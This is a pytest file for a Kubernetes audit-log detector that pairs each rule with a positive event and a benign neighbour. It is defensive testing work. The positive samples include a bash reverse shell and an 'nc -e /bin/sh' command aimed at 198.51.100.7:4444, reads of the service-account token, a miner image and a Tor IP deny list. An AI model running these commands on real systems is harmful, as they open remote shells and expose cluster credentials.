"""Every built-in rule fires on a minimal positive and stays silent on its closest benign
neighbour (the same action by a system identity, in another namespace, one flag off...)."""

from __future__ import annotations

import ipaddress
import json
import os
from datetime import timedelta
from typing import Any

import pytest
from test_rules_helpers import T0, binding, ev, exec_ev, frame, iam, pod, role, workload

from detector.rules import evaluate_rules, load_ruleset
from detector.rules.iplists import IP_LISTS_ENV

RBAC = "rbac.authorization.k8s.io"
ADMREG = "admissionregistration.k8s.io"
EKS_IMAGE = "602401143452.dkr.ecr.us-west-2.amazonaws.com/amazon-k8s-cni:v1.19.0"


def denied(n: int, *, user: Any = "alice", ip: str = "203.0.113.7", **kw: Any) -> list[dict]:
    return [
        ev(
            "list",
            "secrets",
            ns=f"ns{i % 3}",
            code=403,
            user=user,
            ip=ip,
            at=T0 + timedelta(seconds=i),
            decision="forbid",
            **kw,
        )
        for i in range(n)
    ]


def secret_reads(names: list[tuple[str, str]], user: Any = "alice") -> list[dict]:
    return [
        ev("get", "secrets", ns=ns, name=n, user=user, at=T0 + timedelta(seconds=i))
        for i, (ns, n) in enumerate(names)
    ]


def admin_binding(service_account: str) -> dict:
    """A RoleBinding in shop granting ``admin`` to the named ServiceAccount, as created."""
    subject = ("ServiceAccount", service_account)
    body = binding("RoleBinding", "admin", subject, ns="shop")
    return ev("create", "rolebindings", ns="shop", name="b", group=RBAC, code=201, body=body)


# rule id -> (positive events, benign neighbour events, what the neighbour shows)
CASES: dict[str, tuple[list[dict], list[dict], str]] = {
    "rbac-changed": (
        [
            ev(
                "create",
                "rolebindings",
                ns="kube-system",
                name="b",
                group=RBAC,
                code=201,
                body=binding("RoleBinding", "edit", ("User", "bob"), ns="kube-system"),
            )
        ],
        [
            ev(
                "create",
                "rolebindings",
                ns="default",
                name="b",
                group=RBAC,
                code=201,
                body=binding("RoleBinding", "edit", ("User", "bob"), ns="default"),
            )
        ],
        "the same RoleBinding in an application namespace (recorded by rbac-changed-in-namespace)",
    ),
    "rbac-changed-in-namespace": (
        [
            ev(
                "create",
                "rolebindings",
                ns="default",
                name="b",
                group=RBAC,
                code=201,
                body=binding("RoleBinding", "edit", ("User", "bob"), ns="default"),
            )
        ],
        [
            ev(
                "create",
                "rolebindings",
                ns="default",
                name="b",
                group=RBAC,
                code=201,
                user="system:kube-controller-manager",
                body=binding("RoleBinding", "edit", ("User", "bob"), ns="default"),
            )
        ],
        "the same RoleBinding created by kube-controller-manager",
    ),
    "cluster-admin-binding": (
        [
            ev(
                "create",
                "clusterrolebindings",
                name="b",
                group=RBAC,
                code=201,
                body=binding("ClusterRoleBinding", "cluster-admin", ("User", "mallory")),
            )
        ],
        [
            ev(
                "create",
                "clusterrolebindings",
                name="b",
                group=RBAC,
                code=201,
                body=binding("ClusterRoleBinding", "view", ("User", "mallory")),
            )
        ],
        "a binding to view instead of cluster-admin",
    ),
    "clusterrole-wildcard": (
        [
            ev(
                "create",
                "clusterroles",
                name="r",
                group=RBAC,
                code=201,
                body=role("ClusterRole", ["*"], ["get"]),
            )
        ],
        [
            ev(
                "create",
                "clusterroles",
                name="r",
                group=RBAC,
                code=201,
                body=role("ClusterRole", ["pods"], ["get", "list"]),
            )
        ],
        "a ClusterRole naming its resources and verbs",
    ),
    "clusterrole-pod-exec": (
        [
            ev(
                "create",
                "clusterroles",
                name="r",
                group=RBAC,
                code=201,
                body=role("ClusterRole", ["pods", "pods/exec"], ["create"]),
            )
        ],
        [
            ev(
                "create",
                "clusterroles",
                name="r",
                group=RBAC,
                code=201,
                body=role("ClusterRole", ["pods", "pods/log"], ["get"]),
            )
        ],
        "pods/log instead of pods/exec",
    ),
    "clusterrole-write-privileges": (
        [
            ev(
                "create",
                "roles",
                ns="default",
                name="r",
                group=RBAC,
                code=201,
                body=role("Role", ["configmaps"], ["get", "update"]),
            )
        ],
        [
            ev(
                "create",
                "roles",
                ns="default",
                name="r",
                group=RBAC,
                code=201,
                body=role("Role", ["configmaps"], ["get", "list", "watch"]),
            )
        ],
        "a read-only Role",
    ),
    "system-clusterrole-changed": (
        [
            ev(
                "patch",
                "clusterroles",
                name="system:node",
                group=RBAC,
                body={"rules": [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]},
            )
        ],
        [ev("patch", "clusterroles", name="system:coredns", group=RBAC, body={"rules": []})],
        "system:coredns, which changes in normal operation",
    ),
    "default-service-account-admin": (
        [admin_binding("default")],
        [admin_binding("shop-api")],
        "admin for a named service account",
    ),
    "anonymous-binding": (
        [
            ev(
                "create",
                "clusterrolebindings",
                name="b",
                group=RBAC,
                code=201,
                body=binding("ClusterRoleBinding", "view", ("Group", "system:unauthenticated")),
            )
        ],
        [
            ev(
                "create",
                "clusterrolebindings",
                name="b",
                group=RBAC,
                code=201,
                body=binding(
                    "ClusterRoleBinding",
                    "system:public-info-viewer",
                    ("Group", "system:unauthenticated"),
                ),
            )
        ],
        "the built-in public-info-viewer binding",
    ),
    "privileged-container": (
        [
            ev(
                "create",
                "deployments",
                ns="shop",
                name="w",
                group="apps",
                code=201,
                body=workload("Deployment", ns="shop", init_privileged=True),
            )
        ],
        [
            ev(
                "create",
                "deployments",
                ns="shop",
                name="w",
                group="apps",
                code=201,
                body=workload("Deployment", ns="shop", init_privileged=False, privileged=False),
            )
        ],
        "the same Deployment with privileged: false",
    ),
    "sensitive-host-mount": (
        [
            ev(
                "create",
                "pods",
                ns="shop",
                code=201,
                body=pod("shop", host_path="/var/run/docker.sock"),
            )
        ],
        [ev("create", "pods", ns="shop", code=201, body=pod("shop", host_path="/data/cache"))],
        "a hostPath that is not sensitive",
    ),
    "host-namespace-pod": (
        [
            ev(
                "create",
                "daemonsets",
                ns="shop",
                name="w",
                group="apps",
                code=201,
                body=workload("DaemonSet", ns="shop", host_pid=True),
            )
        ],
        [
            ev(
                "create",
                "daemonsets",
                ns="shop",
                name="w",
                group="apps",
                code=201,
                body=workload("DaemonSet", ns="shop"),
            )
        ],
        "a DaemonSet without host namespaces",
    ),
    "pod-in-kube-namespace": (
        [
            ev(
                "create",
                "pods",
                ns="kube-system",
                code=201,
                user="system:serviceaccount:kube-system:replicaset-controller",
                body=pod("kube-system", image="docker.io/xmrig/xmrig:latest"),
            )
        ],
        [
            ev(
                "create",
                "pods",
                ns="kube-system",
                code=201,
                user="system:serviceaccount:kube-system:daemon-set-controller",
                body=pod("kube-system", image=EKS_IMAGE),
            )
        ],
        "an EKS add-on pod in kube-system",
    ),
    "nodeport-service": (
        [
            ev(
                "create",
                "services",
                ns="shop",
                name="s",
                code=201,
                body={"kind": "Service", "spec": {"type": "NodePort", "ports": [{"port": 80}]}},
            )
        ],
        [
            ev(
                "create",
                "services",
                ns="shop",
                name="s",
                code=201,
                body={"kind": "Service", "spec": {"type": "ClusterIP", "ports": [{"port": 80}]}},
            )
        ],
        "a ClusterIP service",
    ),
    "ephemeral-container": (
        [
            ev(
                "patch",
                "pods",
                ns="shop",
                name="p",
                sub="ephemeralcontainers",
                body={"spec": {"ephemeralContainers": [{"name": "debug", "image": "busybox"}]}},
            )
        ],
        [ev("patch", "pods", ns="shop", name="p", body={"metadata": {"labels": {"a": "b"}}})],
        "a patch of the pod's labels",
    ),
    "pod-exec": (
        [
            ev(
                "create",
                "pods",
                ns="default",
                name="p",
                sub="exec",
                code=101,
                stage="ResponseStarted",
                uri="/api/v1/namespaces/default/pods/p/exec?command=sh",
            )
        ],
        [ev("get", "pods", ns="default", name="p", sub="log")],
        "reading the pod's logs",
    ),
    "exec-kube-system-pod": (
        [
            ev(
                "create",
                "pods",
                ns="kube-system",
                name="aws-node-x",
                sub="exec",
                code=101,
                stage="ResponseStarted",
            )
        ],
        [
            ev(
                "create",
                "pods",
                ns="default",
                name="p",
                sub="exec",
                code=101,
                stage="ResponseStarted",
            )
        ],
        "exec into a pod in default",
    ),
    "pod-port-forward": (
        [
            ev(
                "create",
                "pods",
                ns="shop",
                name="db-0",
                sub="portforward",
                code=101,
                stage="ResponseStarted",
            )
        ],
        [ev("get", "pods", ns="shop", name="db-0", sub="proxy")],
        "the pods/proxy subresource",
    ),
    "anonymous-request-allowed": (
        [ev("list", "secrets", ns="default", user="system:anonymous")],
        [ev("get", None, user="system:anonymous", uri="/readyz?verbose")],
        "the public /readyz health endpoint",
    ),
    "anonymous-request-denied": (
        [ev("get", None, user="system:anonymous", uri="/api/v1/secrets", code=401, decision=None)],
        [ev("get", None, user="system:anonymous", uri="/livez")],
        "an allowed health probe",
    ),
    "auth-failure-spike-principal": (
        denied(20),
        denied(19),
        "19 denied requests, one under the threshold",
    ),
    "auth-failure-spike-source-ip": (
        [e for i in range(4) for e in denied(5, user=f"user{i}", ip="198.51.100.9")],
        [e for i in range(4) for e in denied(5, user=f"user{i}", ip=f"198.51.100.{i}")],
        "the same 20 denials from four different IPs",
    ),
    "secret-access-denied": (
        [ev("get", "secrets", ns="prod", name="db", code=403, decision="forbid")],
        [
            ev(
                "get",
                "secrets",
                ns="prod",
                name="db",
                code=403,
                decision="forbid",
                user="system:node:ip-10-0-1-7.ec2.internal",
            )
        ],
        "a kubelet refused by the Node authorizer",
    ),
    "secret-enumeration": (
        secret_reads([(f"ns{i}", f"s{i}") for i in range(10)]),
        secret_reads([("ns0", "s0")] * 10),
        "the same secret read ten times",
    ),
    "kube-system-token-requested": (
        [ev("create", "serviceaccounts", ns="kube-system", name="aws-node", sub="token", code=201)],
        [
            ev(
                "create",
                "serviceaccounts",
                ns="kube-system",
                name="aws-node",
                sub="token",
                code=201,
                user="system:node:ip-10-0-1-7.ec2.internal",
            )
        ],
        "the kubelet minting a token for its pod",
    ),
    "configmap-credentials": (
        [
            ev(
                "create",
                "configmaps",
                ns="shop",
                name="cfg",
                code=201,
                body={"kind": "ConfigMap", "data": {"app.env": "aws_access_key_id = AKIAEXAMPLE"}},
            )
        ],
        [
            ev(
                "create",
                "configmaps",
                ns="shop",
                name="cfg",
                code=201,
                body={"kind": "ConfigMap", "data": {"app.env": "color = purple"}},
            )
        ],
        "a ConfigMap without credentials",
    ),
    "aws-auth-changed": (
        [
            ev(
                "patch",
                "configmaps",
                ns="kube-system",
                name="aws-auth",
                user=iam(),
                body={"data": {"mapRoles": "- rolearn: arn:aws:iam::1:role/x"}},
            )
        ],
        [
            ev(
                "patch",
                "configmaps",
                ns="kube-system",
                name="aws-auth",
                user="eks:node-manager",
                body={"data": {"mapRoles": "..."}},
            )
        ],
        "EKS updating aws-auth itself",
    ),
    "admission-webhook-changed": (
        [ev("create", "mutatingwebhookconfigurations", name="inject", group=ADMREG, code=201)],
        [
            ev(
                "update",
                "mutatingwebhookconfigurations",
                name="cert-manager-webhook",
                group=ADMREG,
                user="system:serviceaccount:cert-manager:cert-manager-cainjector",
            )
        ],
        "cert-manager's cainjector rotating a caBundle",
    ),
    "service-account-in-kube-namespace": (
        [ev("create", "serviceaccounts", ns="kube-system", name="backup-agent", code=201)],
        [
            ev(
                "create",
                "serviceaccounts",
                ns="kube-system",
                name="replicaset-controller",
                code=201,
                user="system:kube-controller-manager",
            )
        ],
        "the controller manager creating its own controller account",
    ),
    "events-deleted": (
        [ev("deletecollection", "events", ns="prod")],
        [
            ev(
                "deletecollection",
                "events",
                ns="old-team",
                user="system:serviceaccount:kube-system:namespace-controller",
            )
        ],
        "the namespace controller emptying a deleted namespace",
    ),
}

# Falco's informational activity rules: created/deleted successfully vs the same attempt failing.
ACTIVITY = {
    "deployment-created": ("create", "deployments", 201),
    "deployment-deleted": ("delete", "deployments", 200),
    "service-created": ("create", "services", 201),
    "service-deleted": ("delete", "services", 200),
    "configmap-created": ("create", "configmaps", 201),
    "configmap-deleted": ("delete", "configmaps", 200),
    "namespace-created": ("create", "namespaces", 201),
    "namespace-deleted": ("delete", "namespaces", 200),
    "serviceaccount-created": ("create", "serviceaccounts", 201),
    "serviceaccount-deleted": ("delete", "serviceaccounts", 200),
    "secret-created": ("create", "secrets", 201),
    "secret-deleted": ("delete", "secrets", 200),
}
for _rid, (_verb, _res, _code) in ACTIVITY.items():
    _ns = None if _res == "namespaces" else "shop"
    CASES[_rid] = (
        [ev(_verb, _res, ns=_ns, name="x", code=_code)],
        [ev(_verb, _res, ns=_ns, name="x", code=409 if _verb == "create" else 404)],
        "the same request failing",
    )


def csr(user: Any = "alice", sub: str | None = None, verb: str = "create") -> dict:
    return ev(
        verb,
        "certificatesigningrequests",
        name="c",
        sub=sub,
        group="certificates.k8s.io",
        code=201 if verb == "create" else 200,
        user=user,
        body={
            "kind": "CertificateSigningRequest",
            "metadata": {"name": "c"},
            "spec": {"signerName": "kubernetes.io/kube-apiserver-client", "request": "LS0t"},
        },
    )


def caps(*added: str, ns: str = "shop") -> dict:
    body = pod(ns)
    body["spec"]["containers"][0]["securityContext"] = {"capabilities": {"add": list(added)}}
    return body


def root_pod(escalation: bool) -> dict:
    body = pod("shop")
    body["spec"]["containers"][0]["securityContext"] = {
        "runAsUser": 0,
        "allowPrivilegeEscalation": escalation,
    }
    return body


def cronjob() -> dict:
    return {
        "kind": "CronJob",
        "metadata": {"name": "c"},
        "spec": {
            "schedule": "*/5 * * * *",
            "jobTemplate": {
                "spec": {"template": {"spec": {"containers": [{"name": "c", "image": "alpine"}]}}}
            },
        },
    }


def cronjob_created(**who: Any) -> dict:
    """A CronJob created in ``shop`` (by ``who``'s ``user``, or the default person)."""
    return ev("create", "cronjobs", ns="shop", group="batch", code=201, body=cronjob(), **who)


def ingress(tls: bool) -> dict:
    spec: dict[str, Any] = {"rules": [{"host": "shop.example.com"}]}
    if tls:
        spec["tls"] = [{"hosts": ["shop.example.com"], "secretName": "shop-tls"}]
    return {"kind": "Ingress", "metadata": {"name": "i"}, "spec": spec}


def sa_token_secret(kind: str) -> dict:
    return {
        "kind": "Secret",
        "type": kind,
        "metadata": {
            "name": "t",
            "annotations": {"kubernetes.io/service-account.name": "argocd-application-controller"},
        },
    }


#: An unprivileged identity a person may impersonate to see what a colleague sees.
COLLEAGUE = "arn:aws:sts::111122223333:assumed-role/developer/grace"


def impersonating(user: Any, as_user: str = "system:admin") -> dict:
    return dict(ev("list", "secrets", ns="shop", user=user), impersonatedUser={"username": as_user})


#: A Tor exit range (not AWS) and an address from the shipped AWS snapshot (eu-west-1).
TOR_IP = "185.220.101.5"
AWS_IP = "3.5.140.9"


SA = "system:serviceaccount:shop:app"
NODE = "system:node:ip-10-0-1-7.ec2.internal"

# Round two (issue 13): each positive and closest benign neighbour follows the peer rule
# named in the rule's references.
CASES.update(
    {
        "exec-credential-read": (
            [exec_ev(["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"], verb="get")],
            [exec_ev(["cat", "/app/config.yaml"])],
            "an exec reading an application file",
        ),
        "exec-reverse-shell": (
            [exec_ev(["sh", "-c", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"])],
            [exec_ev(["sh", "-c", "echo > /dev/tcp/127.0.0.1/5432 && echo open"])],
            "a port check against the pod itself",
        ),
        "exec-escaped-parameters": (
            [
                exec_ev(
                    ["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"],
                    uri="/api/v1/namespaces/shop/pods/p/exec?%63ommand=cat&%63ommand="
                    "%2Fvar%2Frun%2Fsecrets%2Ftoken&container=app&stdout=true",
                )
            ],
            [exec_ev(["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"])],
            "the same command with its names written plainly (a value's escapes are routine)",
        ),
        "pod-copy-out": (
            [exec_ev(["tar", "cf", "-", "/var/lib/data"])],
            [exec_ev(["tar", "-xmf", "-", "-C", "/tmp"])],
            "kubectl cp into the pod (tar x)",
        ),
        "nodes-proxy-access": (
            [
                ev(
                    "get",
                    "nodes",
                    name="ip-10-0-1-7",
                    sub="proxy",
                    uri="/api/v1/nodes/ip-10-0-1-7/proxy/runningpods/",
                )
            ],
            [
                ev(
                    "get",
                    "nodes",
                    name="ip-10-0-1-7",
                    sub="proxy",
                    uri="/api/v1/nodes/ip-10-0-1-7/proxy/metrics/cadvisor",
                )
            ],
            "a metrics scrape through the proxy",
        ),
        "role-grants-nodes-proxy": (
            [
                ev(
                    "create",
                    "clusterroles",
                    name="r",
                    group=RBAC,
                    code=201,
                    body=role("ClusterRole", ["nodes/proxy"], ["get"]),
                )
            ],
            [
                ev(
                    "create",
                    "clusterroles",
                    name="r",
                    group=RBAC,
                    code=201,
                    body=role("ClusterRole", ["nodes"], ["get", "list"]),
                )
            ],
            "a role reading nodes, not their kubelet",
        ),
        "role-grants-escalation-verbs": (
            [
                ev(
                    "create",
                    "clusterroles",
                    name="r",
                    group=RBAC,
                    code=201,
                    body=role("ClusterRole", ["users", "groups"], ["impersonate"]),
                )
            ],
            [
                ev(
                    "create",
                    "clusterroles",
                    name="r",
                    group=RBAC,
                    code=201,
                    body=role("ClusterRole", ["users", "groups"], ["get"]),
                )
            ],
            "a role reading the same resources",
        ),
        "impersonation-of-privileged-identity": (
            [impersonating(iam()), impersonating(iam(), "system:node:ip-10-0-1-7.ec2.internal")],
            [impersonating(iam(), COLLEAGUE)],
            "a person impersonating a colleague",
        ),
        "impersonation-by-person": (
            [impersonating(iam(), COLLEAGUE)],
            [
                impersonating("system:serviceaccount:kube-system:generic-garbage-collector"),
                impersonating(iam()),  # as system:admin: the alert above, not this record
            ],
            "a controller's request with impersonation",
        ),
        "secrets-listed-cluster-wide": (
            [ev("list", "secrets", user=iam())],
            [ev("list", "secrets", ns="shop", user=iam())],
            "the same list in one namespace",
        ),
        "service-account-token-secret-created": (
            [
                ev(
                    "create",
                    "secrets",
                    ns="argocd",
                    name="t",
                    code=201,
                    body=sa_token_secret("kubernetes.io/service-account-token"),
                )
            ],
            [
                ev(
                    "create",
                    "secrets",
                    ns="argocd",
                    name="t",
                    code=201,
                    body=sa_token_secret("Opaque"),
                )
            ],
            "an Opaque secret",
        ),
        "privileged-sa-token-requested": (
            [
                ev(
                    "create",
                    "serviceaccounts",
                    ns="argocd",
                    name="argocd-application-controller",
                    sub="token",
                    code=201,
                )
            ],
            [
                ev(
                    "create",
                    "serviceaccounts",
                    ns="argocd",
                    name="argocd-application-controller",
                    sub="token",
                    code=201,
                    user=NODE,
                )
            ],
            "the kubelet minting the token for the controller's own pod",
        ),
        "csr-created-by-person": ([csr(iam())], [csr(NODE)], "a kubelet's CSR"),
        "csr-approved-by-person": (
            [csr("alice", sub="approval", verb="update")],
            [
                csr(
                    "system:serviceaccount:kube-system:certificate-controller",
                    sub="approval",
                    verb="update",
                )
            ],
            "the controller approving a kubelet CSR",
        ),
        "dangerous-capabilities": (
            [ev("create", "pods", ns="shop", code=201, body=caps("SYS_PTRACE"))],
            [ev("create", "pods", ns="shop", code=201, body=caps("NET_BIND_SERVICE"))],
            "a harmless capability",
        ),
        "root-with-privilege-escalation": (
            [ev("create", "pods", ns="shop", code=201, body=root_pod(True))],
            [ev("create", "pods", ns="shop", code=201, body=root_pod(False))],
            "root with privilege escalation off",
        ),
        "cronjob-created-by-person": (
            [cronjob_created()],
            [cronjob_created(user="system:serviceaccount:argocd:argocd-application-controller")],
            "a GitOps controller applying the same CronJob",
        ),
        "daemonset-created-by-person": (
            [
                ev(
                    "create",
                    "daemonsets",
                    ns="shop",
                    group="apps",
                    code=201,
                    body=workload("DaemonSet", ns="shop"),
                )
            ],
            [
                ev(
                    "create",
                    "deployments",
                    ns="shop",
                    group="apps",
                    code=201,
                    body=workload("Deployment", ns="shop"),
                )
            ],
            "a Deployment",
        ),
        "system-identity-outside-aws": (
            [ev("get", "pods", ns="shop", user=NODE, ip=TOR_IP)],
            [ev("get", "pods", ns="shop", user=NODE, ip=AWS_IP)],
            "the kubelet calling from an AWS address",
        ),
        "service-account-outside-aws": (
            [ev("get", "secrets", ns="shop", user=SA, ip=TOR_IP)],
            [ev("get", "secrets", ns="shop", user=SA, ip=AWS_IP)],
            "the pod's own calls through a NAT gateway's AWS address",
        ),
        "denied-ip-caller": (
            [ev("get", "pods", ns="shop", user=iam(), ip=TOR_IP)],
            [ev("get", "pods", ns="shop", user=iam(), ip="185.220.102.5")],
            "the next /24, not on the list",
        ),
        "ingress-without-tls": (
            [
                ev(
                    "create",
                    "ingresses",
                    ns="shop",
                    group="networking.k8s.io",
                    code=201,
                    body=ingress(False),
                )
            ],
            [
                ev(
                    "create",
                    "ingresses",
                    ns="shop",
                    group="networking.k8s.io",
                    code=201,
                    body=ingress(True),
                )
            ],
            "the same Ingress with TLS",
        ),
    }
)


def _corefile(verb: str, corefile: str, user: str = "alice") -> dict:
    body = {"kind": "ConfigMap", "metadata": {"name": "coredns"}, "data": {"Corefile": corefile}}
    return ev(verb, "configmaps", ns="kube-system", name="coredns", user=user, body=body)


def _dashboard(kind: str) -> dict:
    body = {
        "kind": "Service",
        "metadata": {"name": "kubernetes-dashboard", "namespace": "kubernetes-dashboard"},
        "spec": {"type": kind, "selector": {"k8s-app": "kubernetes-dashboard"}},
    }
    return ev("create", "services", ns="kubernetes-dashboard", code=201, body=body)


CASES.update(
    {
        "cluster-dns-config-changed": (
            [_corefile("update", ".:53 {\n    errors\n    forward . 203.0.113.53\n}\n")],
            [
                _corefile(
                    "update",
                    ".:53 {\n    errors\n    forward . /etc/resolv.conf\n}\n",
                    user="eks:addon-manager",
                )
            ],
            "EKS's add-on manager reconciling CoreDNS",
        ),
        "dashboard-exposed": (
            [_dashboard("LoadBalancer")],
            [_dashboard("ClusterIP")],
            "the dashboard inside the cluster (ClusterIP)",
        ),
    }
)


# Round four (gaps 3): a stolen workload token, a trusted image borrowed, a controller's
# account mounted; each beside the same request by the identity that does it by design.
KUBE_PROXY = "registry.k8s.io/kube-proxy:v1.30.2"
APP_SA = "system:serviceaccount:shop:app"


def _daemonset_by(user: Any) -> dict:
    """``user`` creating an unprivileged DaemonSet in monitoring."""
    body = workload("DaemonSet", "monitoring", image="docker.io/library/alpine:3.20")
    return ev("create", "daemonsets", ns="monitoring", group="apps", code=201, body=body, user=user)


def _sent_by(user_agent: str) -> dict:
    """A person listing pods in shop, sent by ``user_agent``."""
    event = ev("list", "pods", ns="shop", user=iam())
    event["userAgent"] = user_agent
    return event


def _rules_review(user: Any) -> dict:
    """``kubectl auth can-i --list -n shop`` as ``user``: a SelfSubjectRulesReview."""
    body = {
        "kind": "SelfSubjectRulesReview",
        "apiVersion": "authorization.k8s.io/v1",
        "spec": {"namespace": "shop"},
    }
    group = "authorization.k8s.io"
    return ev("create", "selfsubjectrulesreviews", group=group, user=user, code=201, body=body)


def _agent(command: list[str]) -> dict:
    """A kube-proxy DaemonSet (a trusted image) created in kube-system with ``command``."""
    body = workload("DaemonSet", ns="kube-system", image=KUBE_PROXY, privileged=True)
    body["spec"]["template"]["spec"]["containers"][0]["command"] = command
    return ev("create", "daemonsets", ns="kube-system", group="apps", code=201, body=body)


def _sa_pod(account: str) -> dict:
    body = pod("kube-system", image=KUBE_PROXY)
    body["spec"]["serviceAccountName"] = account
    return ev("create", "pods", ns="kube-system", code=201, body=body)


def _token(user: Any, seconds: int = 3600, ns: str = "shop") -> dict:
    body = {"kind": "TokenRequest", "spec": {"expirationSeconds": seconds}}
    return ev(
        "create", "serviceaccounts", ns=ns, name="app", sub="token", code=201, user=user, body=body
    )


def _sa_denied(user: Any, resource: str) -> dict:
    return ev("get", resource, ns="kube-system", name="x", code=403, decision="forbid", user=user)


CASES.update(
    {
        "trusted-image-shell-command": (
            [_agent(["nc", "-e", "/bin/sh", "198.51.100.7", "4444"])],
            [_agent(["kube-proxy", "--v=2"])],
            "kube-proxy running kube-proxy",
        ),
        "controller-service-account-pod": (
            [_sa_pod("clusterrole-aggregation-controller")],
            [_sa_pod("kube-proxy")],
            "a kube-system pod with its own add-on account",
        ),
        "cronjob-created-by-service-account": (
            [cronjob_created(user=APP_SA)],
            [cronjob_created(user="system:serviceaccount:flux-system:kustomize-controller")],
            "Flux applying the same CronJob",
        ),
        "service-account-token-requested": (
            [_token(iam())],
            [_token(NODE)],
            "a kubelet minting its pod's token",
        ),
        "token-requested-by-service-account": (
            [_token(APP_SA)],
            [_token("system:serviceaccount:cert-manager:cert-manager")],
            "cert-manager minting a token for a Vault issuer",
        ),
        "long-lived-token-requested": (
            [_token(iam(), seconds=31_536_000)],
            [_token(NODE, seconds=86400)],
            "the kubelet's one-day IRSA token",
        ),
        "csr-created-by-service-account": ([csr(APP_SA)], [csr(NODE)], "a kubelet's CSR"),
        "csr-approved-by-service-account": (
            [csr(APP_SA, sub="approval", verb="update")],
            [
                csr(
                    "system:serviceaccount:kube-system:certificate-controller",
                    sub="approval",
                    verb="update",
                )
            ],
            "the controller approving a kubelet CSR",
        ),
        "service-account-denied-sensitive": (
            [_sa_denied(APP_SA, "secrets")],
            [_sa_denied(APP_SA, "configmaps")],
            "the same account refused a ConfigMap",
        ),
        "person-denied-across-resources": (
            [
                _sa_denied(iam("dev", "developer"), kind)
                for kind in ("secrets", "nodes", "clusterroles", "serviceaccounts", "pods")
            ],
            [_sa_denied(iam("dev", "developer"), "secrets") for _ in range(5)],
            "five refusals on one kind (a script retrying)",
        ),
        "daemonset-created-by-service-account": (
            [_daemonset_by(SA)],
            [_daemonset_by("system:serviceaccount:tigera-operator:tigera-operator")],
            "Calico's operator creating calico-node",
        ),
        "workload-permission-listing": (
            [_rules_review(APP_SA)],
            [_rules_review(iam("dev", "developer"))],
            "a person running kubectl auth can-i --list",
        ),
        "offensive-tool-user-agent": (
            [_sent_by("stratus-red-team_0c7053a6-86c3-4241-a32c-163c78cde7b6")],
            [_sent_by("kubectl/v1.31.2 (darwin/arm64) kubernetes/abcdef0")],
            "kubectl, the same request",
        ),
    }
)


@pytest.fixture(scope="module")
def ruleset(tmp_path_factory):
    """The built-in rules, with one deny list configured as detect.toml's ip_lists would."""
    deny = tmp_path_factory.mktemp("iplists") / "tor-exits.txt"
    deny.write_text("# test feed\n185.220.101.0/24\n2001:db8::/32\n")
    saved = os.environ.get(IP_LISTS_ENV)
    os.environ[IP_LISTS_ENV] = str(deny)
    try:
        return load_ruleset()
    finally:
        if saved is None:
            os.environ.pop(IP_LISTS_ENV)
        else:
            os.environ[IP_LISTS_ENV] = saved


def run(ruleset, rule_id: str, events: list[dict]):
    return evaluate_rules(frame(*events), ruleset.only(rule_id)).findings


def test_every_rule_has_a_case(ruleset):
    assert set(CASES) == set(ruleset.ids)


@pytest.mark.parametrize("rule_id", sorted(CASES))
def test_fires_on_minimal_positive(ruleset, rule_id):
    positive, _, _ = CASES[rule_id]
    findings = run(ruleset, rule_id, positive)
    assert findings.height == 1, findings
    row = findings.row(0, named=True)
    assert row["detector"] == f"rule:{rule_id}"
    assert row["reasons"] and all(isinstance(r, str) and r for r in row["reasons"])
    assert set(row["audit_ids"]) <= {e["auditID"] for e in positive}


@pytest.mark.parametrize("rule_id", sorted(CASES))
def test_silent_on_benign_neighbour(ruleset, rule_id):
    _, neighbour, why = CASES[rule_id]
    findings = run(ruleset, rule_id, neighbour)
    assert findings.is_empty(), f"{rule_id} fired on {why}: {findings['reasons'].to_list()}"


def test_repeated_bodies_each_keep_their_own_answer(ruleset):
    """Body readers remember the answer for each body they parsed (a ReplicaSet's pods
    repeat one text): bodies met again, interleaved with others of the same length, get
    their own answers back, not a neighbour's."""
    subjects = ("default", "shopapi", "default", "shopapi", "shopapi", "default")
    events = [admin_binding(subject) for subject in subjects]
    assert len({len(json.dumps(e["requestObject"])) for e in events}) == 1
    (ids,) = run(ruleset, "default-service-account-admin", events)["audit_ids"].to_list()
    owned = zip(events, subjects, strict=True)
    assert sorted(ids) == sorted(e["auditID"] for e, s in owned if s == "default")


def test_privileged_found_in_any_container_list_and_workload_kind(ruleset):
    cases = [
        ev("create", "pods", ns="shop", code=201, body=pod("shop", privileged=True)),
        ev("create", "pods", ns="shop", code=201, body=pod("shop", init_privileged=True)),
        ev(
            "patch",
            "pods",
            ns="shop",
            name="p",
            sub="ephemeralcontainers",
            body={
                "spec": {
                    "ephemeralContainers": [
                        {"name": "dbg", "image": "busybox", "securityContext": {"privileged": True}}
                    ]
                }
            },
        ),
        ev(
            "create",
            "statefulsets",
            ns="shop",
            name="w",
            group="apps",
            code=201,
            body=workload("StatefulSet", ns="shop", privileged=True),
        ),
        ev(
            "create",
            "cronjobs",
            ns="shop",
            name="c",
            group="batch",
            code=201,
            body={
                "kind": "CronJob",
                "spec": {
                    "jobTemplate": {
                        "spec": {
                            "template": {
                                "spec": {
                                    "containers": [
                                        {
                                            "name": "c",
                                            "image": "x",
                                            "securityContext": {"privileged": True},
                                        }
                                    ]
                                }
                            }
                        }
                    }
                },
            },
        ),
        ev(
            "patch",
            "deployments",
            ns="shop",
            name="w",
            group="apps",
            body={
                "spec": {
                    "template": {
                        "spec": {
                            "containers": [{"name": "app", "securityContext": {"privileged": True}}]
                        }
                    }
                }
            },
        ),
    ]
    for case in cases:
        assert run(ruleset, "privileged-container", [case]).height == 1, case["requestObject"]


def test_privileged_trusted_image_exception_needs_every_image_trusted(ruleset):
    eks_only = pod("kube-system", image=EKS_IMAGE, privileged=True)
    assert run(
        ruleset,
        "privileged-container",
        [ev("create", "pods", ns="kube-system", code=201, body=eks_only)],
    ).is_empty()
    mixed = pod("kube-system", image=EKS_IMAGE, privileged=True)
    mixed["spec"]["containers"].append({"name": "side", "image": "evil/miner:1"})
    found = run(
        ruleset,
        "privileged-container",
        [ev("create", "pods", ns="kube-system", code=201, body=mixed)],
    )
    assert found.height == 1
    assert "evil/miner:1" in found["reasons"][0][0]


def test_status_updates_and_controller_copies_are_not_reported(ruleset):
    status = ev(
        "update",
        "deployments",
        ns="shop",
        name="w",
        sub="status",
        group="apps",
        user="system:serviceaccount:kube-system:deployment-controller",
        body=workload("Deployment", ns="shop", privileged=True),
    )
    replicaset = ev(
        "create",
        "replicasets",
        ns="shop",
        name="w-1",
        group="apps",
